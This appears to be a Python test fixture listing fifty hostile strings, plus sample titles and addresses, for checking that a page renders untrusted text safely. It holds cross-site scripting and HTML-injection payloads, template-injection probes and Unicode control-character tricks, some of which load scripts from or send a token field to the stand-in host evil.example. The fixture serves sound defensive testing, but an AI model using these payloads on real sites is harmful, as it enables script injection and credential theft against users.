"""Fifty texts that try to do something to the page that shows them."""

_STORY = "The foreign minister of Norway met the president of Chile in Oslo on Monday and signed an agreement on fish."
_SCRIPTS = [
    "<script>window.hit = 1</script>", "</p><script src=//evil.example/x.js></script>", "<img src=x onerror='window.hit = 1'>",
    "<svg onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>", "<iframe src='javascript:parent.hit=1'></iframe>",
    "<a href='javascript:window.hit=1'>here</a>", "<body onload=window.hit=1>", "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=token></form>", "<textarea></textarea><script>window.hit=1</script>", "</textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>", "<!-- --><script>window.hit=1</script>", "]]><script>window.hit=1</script>",
    "<details open ontoggle=window.hit=1>", "<video><source onerror=window.hit=1></video>", "<input autofocus onfocus=window.hit=1>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.hit=1 src>'>", "<object data=javascript:window.hit=1>",
    "<embed src=data:text/html,x>", "<button formaction=javascript:window.hit=1>x", "\"><script>window.hit=1</script>", "'><script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;script&#62;window.hit=1", "{{ 7 * 7 }} {% raw %} {{ config }}", "${window.hit=1} #{1} <%= 1 %>",
    "<template><script>window.hit=1</script></template>", "<dialog open>x</dialog>", "<marquee onstart=window.hit=1>x</marquee>",
    "<div style='position:fixed;inset:0;background:red'>", "<p class='unseen'>hidden</p>", "<input type=hidden name=text value=x>",
]  # fmt: skip
_LETTERS = [
    "W" * 3000, "https://example.org/" + "a" * 2000, "\u202e" + "reversed words", "\u2066\u2067\u2068 isolates \u2069", "\u200f\u200e marks",
    "a\x00b null bytes", "\x1b[31mred\x07", "e" + "\u0301" * 800, "\ufeff\u2060\u200b\u00ad" * 200, "\U0001f3f4" * 300,
    "\n" * 400 + "far below", "\t" * 500 + "far right", "\u2028\u2029 separators",
]  # fmt: skip
HOSTILE = [f"{trick} {_STORY}\n\n{_STORY} {trick}" for trick in _SCRIPTS + _LETTERS]
assert len(HOSTILE) == 50

TITLES = [
    "<script>window.hit=1</script> in the title",
    '"><img src=x onerror=window.hit=1>',
    "\u202etitle turned round",
    "T" * 400,
]
ADDRESSES = [
    "javascript:window.hit=1",
    "data:text/html,<script>1</script>",
    'https://evil.example/"onmouseover="window.hit=1',
    "//evil.example",
]
